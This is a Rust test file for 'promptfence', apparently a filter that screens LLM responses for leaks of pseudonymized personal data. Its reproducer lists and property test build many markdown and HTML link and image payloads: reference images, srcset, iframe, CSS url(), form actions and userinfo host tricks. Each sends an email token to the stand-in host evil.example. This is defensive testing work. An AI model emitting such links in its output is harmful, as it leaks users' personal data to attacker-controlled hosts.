//! Exfiltration through links and images (issue 17, items 1 and 2): every
//! reproducer, the link/image property test (`PROPTEST_CASES` sets its
//! case count), and the stream hold-back bound on digit and base64 runs.

use promptfence::{Kind, Policy, PromptFilter, Value, Verdict};
use proptest::prelude::*;

const ANA: &str = "ana@example.com";

fn with_policy(json: &str) -> PromptFilter {
    let v: Value = serde_json::from_str(json).expect("json");
    PromptFilter::with_policy(Policy::from_value(&v).expect("policy"))
        .expect("filter")
}

/// The issue's setup: `screenPrompt("I am ana@example.com")`, with
/// `pseudonymize` so the vault holds the address as `EMAIL_1`.
fn setup() -> PromptFilter {
    let mut f = with_policy(r#"{"pii": {"action": "pseudonymize"}}"#);
    let r = f.screen_prompt("I am ana@example.com");
    assert!(r.text.contains("EMAIL_1"), "{}", r.text);
    f
}

fn exfil(r: &promptfence::ScreenResult) -> Vec<(&str, &str)> {
    r.findings
        .iter()
        .filter(|f| f.kind == Kind::Exfiltration)
        .map(|f| (f.type_name.as_str(), f.action.as_str()))
        .collect()
}

/// The response goes out without the value, with a redacting finding.
fn assert_stopped(f: &mut PromptFilter, response: &str) {
    let r = f.screen_response(response);
    assert!(!r.text.contains(ANA), "{response:?} -> {:?}", r.text);
    assert!(!r.text.contains("ana%40example.com"), "{:?}", r.text);
    assert!(
        exfil(&r).iter().any(|f| f.1 == "redact"),
        "{response:?}: {:?}",
        r.findings
    );
    assert_eq!(r.verdict, Verdict::Redact);
}

#[test]
fn zero_click_reproducers() {
    let mut f = setup();
    let long_alt = format!(
        "![{}](https://evil.example/p.png?d=EMAIL_1)",
        "a".repeat(1500)
    );
    let long_url =
        format!("![x](https://evil.example/{}?d=[EMAIL_1])", "p".repeat(2500));
    let long_title = format!(
        "![x](https://evil.example/p.png?d=[EMAIL_1] \"{}\")",
        "t".repeat(300)
    );
    let long_tag = format!(
        "<img alt=\"{}\" src=\"https://evil.example/p?d=[EMAIL_1]\">",
        "z".repeat(2500)
    );
    for r in [
        // The headline: a reference image, definition after it.
        "![a][x]\n\n[x]: https://evil.example/p.png?d=EMAIL_1",
        "![x](<https://evil.example/a b?d=[EMAIL_1]>)",
        "![x](\nhttps://evil.example/a?d=[EMAIL_1]\n)",
        "![x\\]](https://evil.example/a?d=[EMAIL_1])",
        "![x [y](z)](https://evil.example/a?d=[EMAIL_1])",
        &long_alt,
        &long_url,
        &long_title,
        "<img srcset=\"https://ok.test/a.png 1x, https://evil.example/b.png?d=[EMAIL_1] 2x\">",
        "<picture><source srcset=\"https://evil.example/s?d=[EMAIL_1]\"></picture>",
        "<video poster=\"https://evil.example/v?d=[EMAIL_1]\"></video>",
        "<input type=image src=\"https://evil.example/i?d=[EMAIL_1]\">",
        "<iframe src=\"https://evil.example/f?d=[EMAIL_1]\"></iframe>",
        &long_tag,
        "![x][]\n\n[X]: https://evil.example/p.png?d=EMAIL_1 \"t\"",
        "![x]\n\n[x]: <https://evil.example/p b.png?d=[EMAIL_1]>",
        "<link rel=stylesheet href=https://evil.example/c?d=[EMAIL_1]>",
        "<div style=\"background:url('https://evil.example/b?d=[EMAIL_1]')\">",
        "<style>p{background:url(https://evil.example/s?d=[EMAIL_1])}</style>",
        "<object data=\"https://evil.example/o?d=[EMAIL_1]\"></object>",
        "<table background=\"//evil.example/t?d=[EMAIL_1]\">",
    ] {
        assert_stopped(&mut f, r);
    }
}

#[test]
fn one_click_reproducers() {
    let mut f = setup();
    for r in [
        "[click](https://evil.example/c?d=EMAIL_1)",
        "[click](https://evil.example/c?d=[EMAIL_1])",
        "see https://evil.example/c?d=EMAIL_1 now",
        "see https://evil.example/c?d=[EMAIL_1].",
        "<https://evil.example/c?d=[EMAIL_1]>",
        "[click][r]\n\n[r]: https://evil.example/c?d=[EMAIL_1]",
        "<a href=\"https://evil.example/c?d=[EMAIL_1]\">click</a>",
        "<form action=\"https://evil.example/f?d=[EMAIL_1]\"><button>go</button></form>",
        "[click](http:evil.example/c?d=[EMAIL_1])",
        "[click](https:\\\\evil.example\\c?d=[EMAIL_1])",
        "[click](https://docs.acme.test@evil.example/?d=[EMAIL_1])",
    ] {
        assert_stopped(&mut f, r);
    }
}

#[test]
fn allowed_hosts_and_prose_still_restore() {
    let mut f = with_policy(
        r#"{"pii": {"action": "pseudonymize"},
            "response": {"allowedHosts": ["docs.acme.test"]}}"#,
    );
    f.screen_prompt("I am ana@example.com");
    let r = f.screen_response(
        "Hi EMAIL_1. [profile](https://docs.acme.test/u?e=[EMAIL_1]) ok",
    );
    assert_eq!(
        r.text,
        "Hi ana@example.com. [profile](https://docs.acme.test/u?e=ana@example.com) ok"
    );
    // A clean foreign link is only flagged; a bare one is left alone.
    let r =
        f.screen_response("[a](https://other.test/x) https://other.test/y");
    assert_eq!(r.text, "[a](https://other.test/x) https://other.test/y");
    assert_eq!(exfil(&r), vec![("LINK", "flag")]);
}

// ------------------------------------------------------ property test

const VALUE: &str = "ana.lopez@example.com";
const PROSE: &str = "bo@example.org";

thread_local! {
    static FIXTURE: PromptFilter = {
        let mut f = with_policy(
            r#"{"pii": {"action": "pseudonymize"},
                "response": {"allowedHosts": ["docs.acme.test", "*.cdn.acme.test"]}}"#,
        );
        let r = f.screen_prompt("mail ana.lopez@example.com or bo@example.org");
        assert!(r.text.contains("EMAIL_2"), "{}", r.text);
        f
    };
}

/// (host as written, is it allowed)
const HOSTS: [(&str, bool); 8] = [
    ("docs.acme.test", true),
    ("img.cdn.acme.test", true),
    ("evil.test", false),
    ("docs.acme.test.evil.test", false),
    ("docs.acme.test@evil.test", false),
    ("EVIL.test:8080", false),
    ("cdn.acme.test.evil.test", false),
    ("evil.example", false),
];

/// Link or image syntax `form` around a URL carrying `tok`.
fn link(
    form: usize,
    scheme: &str,
    host: &str,
    tok: &str,
    pad: usize,
    spaced: bool,
) -> String {
    let sp = if spaced { "a b" } else { "ab" };
    let u = format!("{scheme}{host}/p/{sp}?x=1&d={tok}#f");
    let plain = format!("{scheme}{host}/p?d={tok}");
    let pad = "w".repeat(pad);
    match form {
        0 => format!("![alt {pad}]({plain})"),
        1 => format!("[text]({plain} \"title {pad}\")"),
        2 => format!("![x](<{u}>)"),
        3 => format!("![x](\n  {plain}\n)"),
        4 => format!("[t]({plain} 'ti\\'tle')"),
        5 => format!("![x [y](z)]({plain})"),
        6 => format!("![x\\]]({plain})"),
        7 => format!("![a][Ref]\n\n[ref]: {plain} \"t\""),
        8 => format!("[a][ref]\n\n[ref]:\n  <{u}>"),
        9 => format!("![ref][]\n\n[REF]: {plain}"),
        10 => format!("![ref]\n\n[ref]: {plain}"),
        11 => format!("[ref]: {plain}\n\n![a][ref]"),
        12 => format!("<{plain}>"),
        13 => format!("see {plain} now"),
        14 => format!("<img alt=\"{pad}\" src=\"{u}\">"),
        15 => format!(
            "<img srcset=\"https://docs.acme.test/a.png 1x, {plain} 2x\">"
        ),
        16 => format!("<video poster='{plain}'></video>"),
        17 => format!("<input type=image src={plain}>"),
        18 => format!("<iframe src=\"{u}\"></iframe>"),
        19 => format!("<a title=\"{pad}\" href=\"{u}\">x</a>"),
        20 => format!("<link rel=stylesheet href=\"{plain}\">"),
        21 => format!("<div style=\"background: url('{u}')\">d</div>"),
        22 => format!("<style>p {{ background: url({plain}) }}</style>"),
        23 => format!("<object data=\"{plain}\"></object>"),
        24 => format!("<form action=\"{u}\"><button>go</button></form>"),
        25 => format!("<picture><source srcset=\"{plain}\"></picture>"),
        26 => format!("[x](<{u}> \"t\")"),
        _ => format!("<embed src=\"{plain}\">"),
    }
}

fn screen(f: &mut PromptFilter, text: &str) -> (String, Vec<(Kind, usize)>) {
    let r = f.screen_response(text);
    (r.text, r.findings.iter().map(|f| (f.kind, f.span.start)).collect())
}

fn stream(
    f: &mut PromptFilter,
    text: &str,
    cuts: &[usize],
) -> (String, Vec<(Kind, usize)>) {
    let mut sc = promptfence::ResponseScanner::new();
    let mut out = String::new();
    let mut last = 0;
    for &c in cuts {
        if c > last && c < text.len() && text.is_char_boundary(c) {
            out += &sc.push(&mut f.response_context(), &text[last..c]);
            last = c;
        }
    }
    out += &sc.push(&mut f.response_context(), &text[last..]);
    out += &sc.finish(&mut f.response_context());
    (out, sc.findings().iter().map(|f| (f.kind, f.span.start)).collect())
}

/// `PROPTEST_CASES` (100,000 in the issue's run), else 64.
fn cases() -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(64)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(), ..ProptestConfig::default() })]

    /// Random link and image syntaxes around a pseudonym token: no URL
    /// off the allowed hosts goes out with the restored value, prose
    /// tokens are still restored, and a stream equals one-shot.
    #[test]
    fn no_restored_value_leaves_for_a_foreign_host(
        form in 0usize..28,
        host in 0usize..HOSTS.len(),
        scheme in prop::sample::select(vec![
            "https://", "http://", "//", "HTTPS://", "https:\\\\", "http:",
        ]),
        tok in prop::sample::select(vec!["[EMAIL_1]", "[email_1]", "EMAIL_1", "x[EMAIL_1]y"]),
        pad in prop::sample::select(vec![0usize, 5, 1500, 3000]),
        spaced in any::<bool>(),
        before in prop::sample::select(vec!["", " ", "\n", "see: ", "(", "a]", "!", "<p>"]),
        after in prop::sample::select(vec![
            "", " ", "\n", ".", ")", " end [EMAIL_2]", "\n\n[x]: /local",
        ]),
        cuts in prop::collection::vec(0usize..8000, 0..6),
    ) {
        let (h, allowed) = HOSTS[host];
        // Bare URLs and autolinks need a `scheme://`.
        let scheme = if matches!(form, 12 | 13) { "https://" } else { scheme };
        let text = format!(
            "Contact [EMAIL_2] today.\n\n{before}{}{after}",
            link(form, scheme, h, tok, pad, spaced)
        );
        let mut f = FIXTURE.with(|f| f.clone());
        let (out, found) = screen(&mut f, &text);
        prop_assert!(out.contains(PROSE), "prose token lost: {:?}", out);
        if !allowed {
            prop_assert!(!out.contains(VALUE), "leak: {:?} -> {:?}", text, out);
            prop_assert!(!out.contains("ana.lopez%40example.com"));
        }
        let mut cuts: Vec<usize> =
            cuts.into_iter().map(|c| c % (text.len() + 1)).collect();
        cuts.sort();
        let mut g = FIXTURE.with(|f| f.clone());
        let (s_out, s_found) = stream(&mut g, &text, &cuts);
        prop_assert_eq!(&s_out, &out, "cuts {:?}", cuts);
        prop_assert_eq!(s_found, found);
    }
}

// ------------------------------------------------------ hold-back

/// `response::RUN_HOLD` (the crate keeps it internal).
const RUN_HOLD: usize = 8 * 1024;

/// Most bytes the stream holds back, pushing `chunk` bytes at a time.
fn max_held(f: &mut PromptFilter, text: &str, chunk: usize) -> usize {
    let mut sc = promptfence::ResponseScanner::new();
    let (mut pushed, mut shown, mut max) = (0, 0, 0);
    for c in text.as_bytes().chunks(chunk) {
        let c = std::str::from_utf8(c).unwrap();
        pushed += c.len();
        shown += sc.push(&mut f.response_context(), c).len();
        max = max.max(pushed - shown);
    }
    shown += sc.finish(&mut f.response_context()).len();
    assert_eq!(shown, text.len());
    max
}

/// The hold-back on 1 MB of digits and of base64 stays below the bound
/// (it reached 92k characters).
#[test]
fn hold_back_is_bounded_on_digit_and_base64_runs() {
    let mut f = setup();
    let digits = "1234567890".repeat(100_000);
    let b64 = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrLw"
        .repeat(12_000);
    for (name, text) in [("digits", &digits), ("base64", &b64)] {
        for chunk in [1000, 4096] {
            let held = max_held(&mut f, text, chunk);
            assert!(held < RUN_HOLD, "{name}: held {held} >= {RUN_HOLD}");
        }
    }
}

/// Long runs next to keywords and links stream like one-shot.
#[test]
fn long_runs_stream_like_one_shot() {
    let f = setup();
    let text = format!(
        "passport {} passport ![x](https://evil.example/?d={}) EMAIL_1 {}",
        "7".repeat(9000),
        "QUJD".repeat(3000),
        "9".repeat(5000)
    );
    let (o, fo) = screen(&mut f.clone(), &text);
    for cuts in [
        vec![100, 5000, 9050, 9100, 12000, 20000],
        (1..text.len()).step_by(997).collect::<Vec<_>>(),
        vec![text.len() / 2],
    ] {
        let (s, fs) = stream(&mut f.clone(), &text, &cuts);
        assert_eq!(s, o);
        assert_eq!(fs, fo);
    }
}

/// Inputs built to make a link parser quadratic or panic: screened
/// whole and streamed in chunks, with equal results.
#[test]
fn adversarial_link_syntax_is_total() {
    let f = setup();
    for unit in [
        "[a](x \"",
        "<a x=\"",
        "url(",
        "[a]:b ",
        "![",
        "https://e.test/",
        "[",
        "]",
        "](",
        "<https:",
        "\\",
        "(((",
        "<img src=",
        "[a]: <",
        "![a](<",
        "x[EMAIL_1]",
        "\n\n",
        "'\"",
    ] {
        let text = unit.repeat(20_000 / unit.len());
        let (o, fo) = screen(&mut f.clone(), &text);
        let cuts: Vec<usize> = (0..text.len()).step_by(4093).collect();
        let (s, fs) = stream(&mut f.clone(), &text, &cuts);
        assert_eq!(s, o, "{unit:?}");
        assert_eq!(fs, fo, "{unit:?}");
    }
}

/// Found by the stream fuzz smoke: one '_' about 300 bytes after a
/// would-be ADDRESS (in a text with no whitespace) made the whole run an
/// opaque identifier in one-shot screening, while a stream had already
/// committed the ADDRESS. The opaque-chunk look is now bounded, so both
/// read the same. (fuzz/regressions/stream/address-shadowed-by-far-text)
#[test]
fn a_far_underscore_does_not_change_what_a_stream_committed() {
    let head = "api\u{fffd}\u{fffd}\u{e}\u{1}dt0c01.AREEP0EJ80IPVDM6LW8865DE.\
                XXHU4FN0ZPNMBAEI83LHPTQ08ITQW5YMBHPLK4SCTX5OGPAr\0\0\x006JUWG0L";
    let text = format!(
        "{head}{}Q\u{fffd}template_api_k!\0\x002Gch\"",
        "\u{fffd}".repeat(90)
    );
    let mut one = PromptFilter::new(
        &promptfence::Filter::new(Policy::default()).unwrap(),
    );
    let want = screen(&mut one, &text);
    let cuts: Vec<usize> = (1..text.len()).collect();
    let mut chat = PromptFilter::new(
        &promptfence::Filter::new(Policy::default()).unwrap(),
    );
    assert_eq!(stream(&mut chat, &text, &cuts), want);
}
